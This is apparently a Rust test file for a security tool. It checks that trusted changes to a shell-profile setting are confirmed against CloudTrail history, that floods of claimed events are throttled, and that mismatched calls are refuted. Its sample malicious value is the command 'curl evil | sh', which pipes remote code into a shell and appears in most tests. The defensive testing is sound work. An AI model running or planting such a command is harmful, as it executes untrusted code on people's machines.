//! Trusted calls that CloudTrail's own history has to confirm.

use runas_reactor::domain::compaction::compact;
use runas_reactor::domain::confirmation::{answered, due, pending};
use runas_reactor::domain::durations::{KEPT_MS, WATCH_MS};
use runas_reactor::domain::edit::{Action, Edit};
use runas_reactor::domain::fact::{CallFact, Facts};
use runas_reactor::domain::merge::merge;
use runas_reactor::domain::principal::Attribution;
use runas_reactor::domain::time::Time;

use crate::support::facts::*;

const PROFILE: &str = "shellProfile";

const EVIL: &str = "curl evil | sh";

/// A pipeline's event says that it wrote a shell profile.
fn claimed() -> Story {
    Story::known().version(100, &document(&[(PROFILE, EVIL)])).call(wrote(5, 100, Attribution::Trusted))
}

fn the_call(facts: &Facts) -> CallFact {
    facts.calls.values().next().unwrap().clone()
}

/// This many seconds after its event arrived.
fn after(call: &CallFact, ms: i64) -> Time {
    call.received.plus_ms(ms)
}

fn learned(facts: &Facts, call: CallFact) -> Facts {
    let calls = [(call.edit.id.clone(), call)].into();
    merge(facts, &Facts { calls, ..Facts::default() })
}

#[test]
fn trusted_change_of_what_runs_code_is_asked_for_from_five_minutes_on_for_a_day() {
    let facts = claimed().facts();
    let call = the_call(&facts);
    assert_eq!(due(&facts, after(&call, WATCH_MS - 1)), []);
    assert_eq!(due(&facts, after(&call, WATCH_MS)), std::slice::from_ref(&call));
    assert_eq!(due(&facts, after(&call, KEPT_MS - 1)), std::slice::from_ref(&call));
    assert_eq!(due(&facts, after(&call, KEPT_MS)), []);
}

#[test]
fn nothing_else_is_asked_for() {
    let quiet = document(&[("idleSessionTimeout", "20")]);
    let quiet = Story::known().version(100, &quiet).call(wrote(5, 100, Attribution::Trusted)).facts();
    let mallorys = Story::known().version(100, &document(&[(PROFILE, EVIL)]));
    let mallorys = mallorys.call(wrote(5, 100, Attribution::Untrusted)).facts();
    let without_version = Story::known().call(wrote(5, 100, Attribution::Trusted)).facts();
    for facts in [quiet, mallorys, without_version] {
        assert_eq!(pending(&facts, at(200)), Vec::<String>::new());
    }
}

/// Or a flood of made-up events would keep the document's write waiting for the history's answers.
#[test]
fn flood_of_claims_is_asked_for_a_few_at_a_time_the_oldest_first() {
    let mut story = Story::known();
    for n in 0..9 {
        let content = document(&[(PROFILE, &format!("{EVIL} -s {n}"))]);
        story = story.version(100 + n, &content).call(wrote(5 + n.unsigned_abs(), 100 + n, Attribution::Trusted));
    }
    let facts = story.facts();
    let asked: Vec<Time> = due(&facts, at(2_000)).iter().map(|call| call.edit.at).collect();
    assert_eq!(asked, [at(100), at(101), at(102), at(103)]);
}

#[test]
fn confirmed_call_is_not_asked_for_again_and_its_change_stays() {
    let facts = claimed().facts();
    let call = the_call(&facts);
    let found = [call.edit.clone()];
    let facts = learned(&facts, answered(&call, &found, after(&call, WATCH_MS)).unwrap());
    assert_eq!(due(&facts, after(&call, WATCH_MS)), []);
    assert_eq!(accepted_field(&facts, PROFILE), Some(EVIL.into()));
}

#[test]
fn call_that_the_history_does_not_know_counts_as_foreign_after_half_an_hour() {
    let facts = claimed().facts();
    let call = the_call(&facts);
    assert_eq!(answered(&call, &[], after(&call, 6 * WATCH_MS - 1)), None, "it may still come");
    assert_eq!(accepted_field(&facts, PROFILE), Some(EVIL.into()), "no pipeline is held up");
    assert_eq!(pending(&facts, after(&call, 6 * WATCH_MS - 1)), std::slice::from_ref(&call.edit.id));
    assert_eq!(
        pending(&facts, after(&call, 6 * WATCH_MS)),
        Vec::<String>::new(),
        "CloudTrail will not know it any more"
    );
    let refuted = answered(&call, &[], after(&call, 6 * WATCH_MS)).unwrap();
    assert!(refuted.checked);
    let facts = learned(&facts, refuted);
    assert_eq!(accepted_field(&facts, PROFILE), None);
    let copied = learned(&facts, call);
    assert_eq!(accepted_field(&copied, PROFILE), None, "nor does a copy of the event bring it back");
    assert_eq!(due(&copied, at(2_000)), []);
}

#[test]
fn another_principals_call_under_that_event_id_confirms_nothing() {
    let facts = claimed().facts();
    let call = the_call(&facts);
    let other = Edit { principal: wrote(5, 100, Attribution::Untrusted).edit.principal, ..call.edit.clone() };
    let refuted = answered(&call, &[other], after(&call, WATCH_MS)).unwrap();
    assert_eq!(refuted.attribution, Attribution::Untrusted, "at once: the history has the call, and it is another's");
    let deletion = Edit { action: deleted(100, Attribution::Trusted).edit.action, ..call.edit.clone() };
    assert_eq!(answered(&call, &[deletion], after(&call, WATCH_MS)).unwrap().attribution, Attribution::Untrusted);
}

/// Else a pipeline's event of last year, under its true id, would vouch for a version of today.
#[test]
fn true_id_under_another_time_or_number_confirms_nothing() {
    let facts = claimed().facts();
    let call = the_call(&facts);
    let judged = |other: CallFact| {
        let edit = Edit { id: call.edit.id.clone(), ..other.edit };
        answered(&call, &[edit], after(&call, WATCH_MS)).unwrap().attribution
    };
    assert_eq!(judged(wrote(5, 99, Attribution::Trusted)), Attribution::Untrusted);
    assert_eq!(judged(wrote(6, 100, Attribution::Trusted)), Attribution::Untrusted);
    assert_eq!(judged(wrote(5, 100, Attribution::Trusted)), Attribution::Trusted);
    let mut unsaid = wrote(5, 100, Attribution::Trusted);
    unsaid.edit.action = Action::Updated { version: None };
    assert_eq!(judged(unsaid), Attribution::Trusted, "CloudTrail leaves out what is too large");
}

/// Or a flood of versions would make an event's claim good before the history is asked.
#[test]
fn unconfirmed_change_does_not_become_part_of_the_base() {
    let flooded = |confirmed: bool| {
        let mut story = claimed();
        story.facts.calls.values_mut().for_each(|call| call.checked = confirmed);
        for n in 0..33 {
            let noise = document(&[(PROFILE, EVIL), ("idleSessionTimeout", &n.to_string())]);
            story = story.version(101 + n, &noise).call(wrote(6 + n.unsigned_abs(), 101 + n, Attribution::Untrusted));
        }
        let facts = compact(&story.facts(), at(200)).facts;
        assert!(facts.base.as_ref().unwrap().until >= at(100), "the version has left");
        accepted_field(&facts, PROFILE)
    };
    assert_eq!(flooded(true), Some(EVIL.into()));
    assert_eq!(flooded(false), None);
}
